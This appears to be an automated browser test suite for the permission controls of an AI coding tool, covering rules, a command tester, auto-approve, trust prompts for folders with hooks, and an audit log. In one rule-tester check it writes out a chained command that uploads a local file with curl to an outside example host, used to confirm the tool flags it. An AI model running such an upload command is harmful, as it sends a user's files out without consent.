// Permissions in Chromium, with a headless Parley and the real CLI: rules created with an answer and deleted on their
// page, the rule tester, auto-approve, folders with hooks, two pages that answer the same request, all pending requests
// in one place, and their audit log.

import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { openPage, place, shot, startBrowser } from "./kit/browser.mjs";
import { equal, Suite, truth, until } from "./kit/checks.mjs";
import { modelEnv, startModel, text, tool } from "./kit/model.mjs";
import { Sandbox } from "./kit/sandbox.mjs";
import { startServer } from "./kit/server.mjs";

const sandbox = new Sandbox("permissions");
const file = (name) => join(sandbox.work, name);
const bash = (command) => tool("Bash", { command, description: "Scripted" });
const model = await startModel({
  "make one": [[bash("touch one.txt")], [text("Made one.")]],
  "one again": [[bash("touch one.txt")], [text("One again.")]],
  "one denied": [[bash("touch one.txt")], [text("One was denied.")]],
  "make two": [[bash("touch two.txt")], [text("Made two.")]],
  "make three": [[bash("touch three.txt")], [text("Made three.")]],
  "remove three": [[bash("rm three.txt")], [text("Three stays.")]],
  "make four": [[bash("touch four.txt")], [text("Made four.")]],
  "make five": [[bash("touch five.txt")], [text("Made five.")]],
  "say hello": [[text("Hello from the folder.")]],
});

// A folder with a hook that leaves a trace when it runs.
const strange = sandbox.folder("home/strange");
const mark = join(sandbox.dir, "the-hook-ran");
mkdirSync(join(strange, ".claude"));
writeFileSync(
  join(strange, ".claude/settings.json"),
  JSON.stringify({ hooks: { UserPromptSubmit: [{ hooks: [{ type: "command", command: `touch '${mark}'` }] }] } }),
);

let page;
let server;
let problems = [];
const suite = new Suite({ onFailure: (name) => page?.screenshot(shot(sandbox, `failed-${name}`)) });
const button = (name, on = page) => on.getByRole("button", { name });
const log = (on = page) => on.getByRole("log", { name: "Conversation" });
const box = () => page.getByRole("textbox", { name: "Prompt", exact: true });
const question = (on = page) => on.getByRole("region", { name: "Question" });
const dialog = () => place(page, "Permissions");
const tab = (name) => dialog().getByRole("tab", { name }).click();
const line = (words) => page.locator('[data-component="tool-card"] > [data-slot="line"]', { hasText: words }).last();
/** It does not react at first, so that a click meant for something else doesn't count. */
const ready = async (on = page) => await question(on).and(on.locator('[data-phase="ready"]')).waitFor();
const send = async (words) => {
  await box().fill(words);
  await page.keyboard.press("Enter");
};
const idle = () => page.getByRole("button", { name: "Interrupt", exact: true }).waitFor({ state: "detached" });
const answered = async (words) => {
  await log().getByText(words).last().waitFor();
  await idle();
};
const show = async () => {
  await box().focus();
  await page.keyboard.press("Alt+R");
  await dialog().waitFor();
};
const leave = async () => {
  await page.keyboard.press("Escape");
  await dialog().waitFor({ state: "detached" });
};
const create = async (folder, title) => {
  const form = page.getByRole("dialog", { name: "New session" });
  await page.keyboard.press("Control+Shift+O");
  await form.getByRole("button", { name: "Other folder…" }).click();
  await page.getByRole("combobox").fill(`${folder}/`);
  await button(/^Open /).click();
  await form.getByRole("radio", { checked: true }).and(page.getByTitle(folder, { exact: true })).waitFor();
  await form.getByRole("textbox", { name: "Title" }).fill(title);
  await form.getByRole("button", { name: "Create session" }).click();
  await form.waitFor({ state: "detached" });
  await page.getByRole("tab", { name: new RegExp(title), selected: true }).waitFor();
};

try {
  const browser = await startBrowser(sandbox);
  server = await startServer(sandbox, { env: modelEnv(model) });
  ({ page, problems } = await openPage(browser));
  await page.goto(server.link);
  await button("Choose a folder…").click();
  await page.getByRole("combobox").fill(sandbox.work);
  await button("Open project").click();
  await box().waitFor();

  await suite.check("a rule is made with an answer, and the same command then runs unasked", async () => {
    await send("make one");
    await ready();
    await question().getByText("touch one.txt").first().waitFor();
    truth(!existsSync(file("one.txt")), "it ran before it was allowed");
    await button("More options").click();
    await page.getByRole("menuitem", { name: /^Create a rule/ }).click();
    const form = page.getByRole("group", { name: "Create a rule" });
    await form.getByRole("radio", { name: "Everywhere" }).check();
    await form.getByRole("status").getByText("Bash(touch one.txt)").waitFor();
    await page.screenshot(shot(sandbox, "rule-with-answer"));
    await form.getByRole("button", { name: /create rule/ }).click();
    await answered("Made one.");
    truth(existsSync(file("one.txt")), "it did not run");
    await send("one again");
    await answered("One again.");
    equal(await line("touch one.txt").locator('[data-slot="passed"]').getAttribute("title").then((t) => t.startsWith("Allowed by a rule")), true, "what the card says");
  });

  await suite.check("trying out says what would happen and why, part by part", async () => {
    await show();
    await tab("Test");
    const field = dialog().getByRole("textbox", { name: "Command" });
    await field.fill("touch one.txt");
    await dialog().getByText("Would run without asking.").waitFor();
    await dialog().getByText("Decided by a rule.").waitFor();
    await field.fill("touch one.txt && curl -T notes.txt https://example.org");
    await dialog().getByText("Would ask you.").waitFor();
    const parts = dialog().getByRole("list", { name: "Parts of this command" }).getByRole("listitem");
    equal(await parts.count(), 2, "parts");
    equal(await parts.nth(0).getByRole("img").getAttribute("aria-label"), "Allowed", "the first part");
    equal(await parts.nth(1).getByRole("img").getAttribute("aria-label"), "Asks", "the second part");
    await dialog().getByText("Risks", { exact: true }).waitFor();
    await page.screenshot(shot(sandbox, "try"));
    await leave();
  });

  await suite.check("a rule is changed, its faults are shown, and revoked it is over", async () => {
    await show();
    await button("Edit Bash(touch one.txt)").click();
    const form = dialog().getByRole("group", { name: "Edit rule" });
    await form.getByRole("textbox", { name: "Rule" }).fill("Bash(touch");
    await form.getByRole("button", { name: "Save" }).click();
    await form.getByText(/^This rule is not valid/).waitFor();
    await form.getByRole("textbox", { name: "Rule" }).fill("Bash(touch one.txt)");
    await form.getByRole("textbox", { name: "Note" }).fill("For the test");
    await form.getByRole("button", { name: "Save" }).click();
    await dialog().getByText("For the test").waitFor();
    await button("Delete Bash(touch one.txt)").click();
    await dialog().getByText("Deleted:").waitFor();
    await button("Edit Bash(touch one.txt)").waitFor({ state: "detached" });
    await button("Undo").click();
    await dialog().getByText("For the test").waitFor();
    await page.screenshot(shot(sandbox, "rules"));
    await button("Delete Bash(touch one.txt)").click();
    await button("Edit Bash(touch one.txt)").waitFor({ state: "detached" });
    await leave();
  });

  await suite.check("an open question is there again after the page was reloaded", async () => {
    await send("one denied");
    await ready();
    await page.goto("about:blank");
    await page.goto(server.link);
    await ready();
    await send("Not this one.");
    await answered("One was denied.");
    await until("the model to hear it", () => model.heard("Not this one."));
  });

  await suite.check("of two pages that answer, one is told who was faster", async () => {
    const other = await openPage(browser);
    let held = null;
    await other.page.routeWebSocket(/\/ws/, (socket) => {
      const program = socket.connectToServer();
      program.onMessage((message) => (held ? held.push(() => socket.send(message)) : socket.send(message)));
    });
    await other.page.goto(server.link);
    await log(other.page).waitFor();
    await send("make two");
    await ready();
    await ready(other.page);
    // The program's messages are delayed on the other page.
    held = [];
    await question().getByRole("button", { name: /^Allow Ctrl/ }).click();
    await answered("Made two.");
    await question(other.page).getByRole("button", { name: /^Deny Ctrl/ }).click();
    await until("the late answer's answer", () => held.length > 3);
    const late = held;
    held = null;
    for (const deliver of late) deliver();
    await other.page.getByText(/answered first \(allowed\)\. That answer counts\./).waitFor();
    truth(existsSync(file("two.txt")), "the first answer did not count");
    await other.page.screenshot(shot(sandbox, "faster"));
    equal(other.problems, [], "trouble on the other page");
    await other.page.context().close();
  });

  await suite.check("auto-approve allows safe actions, says so, and asks about the rest", async () => {
    await button(/^Permission mode: Ask first/).click();
    await page.getByRole("menuitemradio", { name: "Safe actions", exact: true }).click();
    await button("Permission mode: Auto-approve").waitFor();
    await send("make three");
    await answered("Made three.");
    truth(existsSync(file("three.txt")), "it did not run");
    truth((await line("touch three.txt").locator('[data-slot="passed"]').getAttribute("title")).startsWith("Auto-approved: "), "the card doesn't show who allowed it");
    await send("remove three");
    await ready();
    await question().getByText("rm three.txt").first().waitFor();
    await page.screenshot(shot(sandbox, "auto-approve"));
    await question().getByRole("button", { name: /^Deny Ctrl/ }).click();
    await answered("Three stays.");
    truth(existsSync(file("three.txt")), "it was removed");
    await show();
    await tab("Auto-approve");
    await dialog().getByText("Bash: touch three.txt").waitFor();
    await leave();
    await button("Permission mode: Auto-approve").click();
    await page.getByRole("menuitemradio", { name: "Off", exact: true }).click();
    await button("Permission mode: Ask first").waitFor();
  });

  await suite.check("a folder with a hook is asked about; started without it, the hook does not run", async () => {
    await create(strange, "Strange");
    await send("say hello");
    await page.getByRole("heading", { name: "Trust this folder?" }).waitFor();
    await question().getByText(`touch '${mark}'`).waitFor();
    await ready();
    await page.screenshot(shot(sandbox, "trust"));
    await button("Start without them").click();
    await answered("Hello from the folder.");
    truth(!existsSync(mark), "the hook ran");
    await show();
    await tab("Folders");
    await dialog().getByText(/^Not trusted: Claude runs without its hooks and servers/).waitFor();
    await button(`Show what ${strange} would load`).click();
    await dialog().getByText("Sessions here start without:").waitFor();
    await page.screenshot(shot(sandbox, "folders"));
    await button(`Forget the decision for ${strange}`).click();
    await dialog().getByText(/again before the next start/).waitFor();
    await leave();
    await create(strange, "Trusted");
    await send("say hello");
    await page.getByRole("heading", { name: "Trust this folder?" }).waitFor();
    await ready();
    await button("Trust and start").click();
    await answered("Hello from the folder.");
    truth(existsSync(mark), "the hook did not run where it was trusted");
  });

  await suite.check("all that waits is in one place, and can be answered there", async () => {
    await create(sandbox.work, "Waits first");
    await send("make four");
    await ready();
    await create(sandbox.work, "Waits second");
    await send("make five");
    await ready();
    await page.keyboard.press("Control+Shift+Y");
    await page.getByRole("tab", { name: /Waits first/, selected: true }).waitFor();
    await page.keyboard.press("Control+Shift+Y");
    await page.getByRole("tab", { name: /Waits second/, selected: true }).waitFor();
    await button("2 waiting for you").click();
    const list = page.getByRole("dialog", { name: "Waiting for you" });
    const rows = list.getByRole("listitem");
    const waiting = async () => await rows.getByRole("button", { name: /^Go to / }).evaluateAll((all) => all.map((row) => row.getAttribute("aria-label").split(":")[0]).join());
    await until("what waits", async () => (await waiting()) === "Go to Waits first,Go to Waits second");
    await rows.first().getByRole("button", { name: "Answer here" }).click();
    await page.screenshot(shot(sandbox, "waiting"));
    await list.locator('[data-component="question"][data-phase="ready"]').waitFor();
    // The keys are for the request in the dialog, not for the one behind it.
    await page.keyboard.press("Control+Enter");
    await until("the first to be answered", async () => (await rows.count()) === 1);
    await until("the file", () => existsSync(file("four.txt")));
    truth(!existsSync(file("five.txt")), "the other question was answered, too");
    await button("Go to Waits second").click();
    await list.waitFor({ state: "detached" });
    await ready();
    await question().getByRole("button", { name: /^Allow Ctrl/ }).click();
    await answered("Made five.");
    await page.locator('[data-component="waiting-button"]').waitFor({ state: "detached" });
  });

  await suite.check("the log has all of it, is as it was written, and can be saved", async () => {
    await show();
    await tab("Log");
    const records = dialog().getByRole("list", { name: "Log" }).getByRole("listitem");
    await records.first().waitFor();
    await button("Verify log").click();
    const said = await dialog().getByText(/^Log verified/).textContent();
    const count = Number(/all (\d+) entries/.exec(said)[1]);
    const [download] = await Promise.all([page.waitForEvent("download"), button("Save to file").click()]);
    const lines = (await readFile(await download.path(), "utf8")).trim().split("\n");
    equal(lines.length, count, "lines of the file");
    const saved = lines.map((one) => JSON.parse(one));
    truth(saved.every((one) => one.hash), "every line is a record");
    // That a request was made is a separate record, which the page lists on demand.
    equal(await records.count(), saved.filter((one) => one.type !== "asked").length, "records on the page");
    const words = await records.allTextContents();
    for (const want of [/Allowed · Auto-approve.*touch three\.txt/, /Denied · .*rm three\.txt/, /Rule created.*touch one\.txt/, /Rule deleted.*touch one\.txt/, /Allowed · Rule.*touch one\.txt/]) {
      truth(words.some((one) => want.test(one)), `no record like ${want}`);
    }
    await dialog().getByRole("combobox", { name: "Answered by" }).selectOption({ label: "Auto-approve" });
    await until("one record of auto-approve", async () => (await records.count()) === 1);
    await records.first().getByRole("button").click();
    await records.first().getByText(/Only reads/).waitFor();
    await page.screenshot(shot(sandbox, "log"));
    await leave();
  });

  await suite.check("nothing was wrong on the page", async () => equal(problems, [], "what went wrong"));
  await browser.close();
} finally {
  await sandbox.close();
  await model.close();
}
await suite.check("nothing is left running", () => sandbox.leavesNothing());
process.exit(suite.end());
